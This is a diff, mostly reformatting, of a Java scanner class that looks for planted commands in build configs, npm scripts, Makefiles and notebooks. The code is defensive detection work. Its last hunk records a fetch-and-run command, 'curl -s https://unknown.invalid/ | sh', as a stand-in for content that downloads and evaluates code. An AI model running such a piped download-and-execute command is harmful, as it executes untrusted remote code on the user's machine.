@@ -110,10 +110,11 @@ final class PlantedCode {
       return Kind.PYTHON;
     }
     if (base.matches(
-        "(jest|vitest|playwright|cypress|vite|webpack|rollup|next|nuxt|babel|postcss|tailwind"
-            + "|eslint|prettier|svelte|astro|karma|\\.eslintrc|\\.mocharc)[.\\w-]*\\.(js|cjs|mjs|ts|mts|cts)")
-        || base.matches("(setuptests|setup-tests|test-setup|testsetup|global-setup|globalsetup)"
-            + "\\.(js|cjs|mjs|ts|tsx|jsx)")
+            "(jest|vitest|playwright|cypress|vite|webpack|rollup|next|nuxt|babel|postcss|tailwind"
+                + "|eslint|prettier|svelte|astro|karma|\\.eslintrc|\\.mocharc)[.\\w-]*\\.(js|cjs|mjs|ts|mts|cts)")
+        || base.matches(
+            "(setuptests|setup-tests|test-setup|testsetup|global-setup|globalsetup)"
+                + "\\.(js|cjs|mjs|ts|tsx|jsx)")
         || base.equals("gruntfile.js")
         || base.equals("gulpfile.js")) {
       return Kind.JAVASCRIPT;
@@ -155,8 +156,7 @@ final class PlantedCode {
     }
     String dir = path.substring(0, Math.max(1, path.lastIndexOf('/')));
     boolean rootRelative = kind == Kind.YAML_COMMANDS || kind == Kind.VSCODE_TASKS;
-    analyzeCommands(
-        into, ctx, userCommands, rootRelative ? ctx.cwd().orElse(dir) : dir, commands);
+    analyzeCommands(into, ctx, userCommands, rootRelative ? ctx.cwd().orElse(dir) : dir, commands);
   }
 
   /** Classifies planted commands that run in {@code cwd} and records the risky ones. */
@@ -276,7 +276,8 @@ final class PlantedCode {
     };
   }
 
-  private static final Pattern MAKE_VAR = Pattern.compile("^([A-Za-z_][A-Za-z0-9_]*)\\s*[:?+]?=\\s*(.*)$");
+  private static final Pattern MAKE_VAR =
+      Pattern.compile("^([A-Za-z_][A-Za-z0-9_]*)\\s*[:?+]?=\\s*(.*)$");
 
   /** Recipe lines (tab-indented), with make's own expansions replaced by plain words. */
   static List<String> makefile(String content) {
@@ -391,10 +392,36 @@ final class PlantedCode {
   /** npm lifecycle scripts and the names projects give their usual ones. */
   private static final Set<String> SCRIPT_NAMES =
       Set.of(
-          "preinstall", "install", "postinstall", "prepare", "prepublish", "prepublishonly",
-          "prepack", "postpack", "preuninstall", "postuninstall", "pretest", "test", "posttest",
-          "prestart", "start", "poststart", "prebuild", "build", "postbuild", "dev", "lint",
-          "format", "serve", "preview", "typecheck", "check", "watch", "ci", "deploy", "release");
+          "preinstall",
+          "install",
+          "postinstall",
+          "prepare",
+          "prepublish",
+          "prepublishonly",
+          "prepack",
+          "postpack",
+          "preuninstall",
+          "postuninstall",
+          "pretest",
+          "test",
+          "posttest",
+          "prestart",
+          "start",
+          "poststart",
+          "prebuild",
+          "build",
+          "postbuild",
+          "dev",
+          "lint",
+          "format",
+          "serve",
+          "preview",
+          "typecheck",
+          "check",
+          "watch",
+          "ci",
+          "deploy",
+          "release");
 
   private static final Pattern JSON_PAIR =
       Pattern.compile("\"([^\"\\\\]+)\"\\s*:\\s*\"((?:[^\"\\\\]|\\\\.)*)\"");
@@ -418,9 +445,7 @@ final class PlantedCode {
     Matcher m = JSON_PAIR.matcher(content);
     while (m.find()) {
       String key = m.group(1);
-      if (scripts
-          || SCRIPT_NAMES.contains(key.toLowerCase(Locale.ROOT))
-          || key.indexOf(':') > 0) {
+      if (scripts || SCRIPT_NAMES.contains(key.toLowerCase(Locale.ROOT)) || key.indexOf(':') > 0) {
         out.add(unescapeJson(m.group(2)));
       }
     }
@@ -647,8 +672,12 @@ final class PlantedCode {
     List<String> out = new ArrayList<>();
     for (String cell : sources) {
       String trimmed = cell.strip();
-      if (trimmed.startsWith("%%bash") || trimmed.startsWith("%%sh") || trimmed.startsWith("%%script")) {
-        out.add(trimmed.substring(trimmed.indexOf('\n') < 0 ? trimmed.length() : trimmed.indexOf('\n')));
+      if (trimmed.startsWith("%%bash")
+          || trimmed.startsWith("%%sh")
+          || trimmed.startsWith("%%script")) {
+        out.add(
+            trimmed.substring(
+                trimmed.indexOf('\n') < 0 ? trimmed.length() : trimmed.indexOf('\n')));
         continue;
       }
       for (String line : cell.split("\n")) {
@@ -698,8 +727,12 @@ final class PlantedCode {
         }
         Matcher lit = STRING_LITERAL.matcher(part);
         while (lit.find()) {
-          String s = lit.group(1) != null ? lit.group(1) : lit.group(2) != null ? lit.group(2) : lit.group(3);
-          cmd.append(cmd.length() == 0 ? "" : " ").append(part.startsWith("[") || g > 1 ? shellQuote(s) : s);
+          String s =
+              lit.group(1) != null
+                  ? lit.group(1)
+                  : lit.group(2) != null ? lit.group(2) : lit.group(3);
+          cmd.append(cmd.length() == 0 ? "" : " ")
+              .append(part.startsWith("[") || g > 1 ? shellQuote(s) : s);
         }
       }
       out.add(cmd.toString());
@@ -711,8 +744,7 @@ final class PlantedCode {
             || content.contains("https.get(")
             || content.contains("http.get(");
     boolean evaluates =
-        Pattern.compile("\\b(?:exec|eval)\\s*\\(").matcher(content.replace("execSync(", ""))
-                .find()
+        Pattern.compile("\\b(?:exec|eval)\\s*\\(").matcher(content.replace("execSync(", "")).find()
             || content.contains("new Function(");
     if (fetches && evaluates) {
       out.add("curl -s https://unknown.invalid/ | sh");
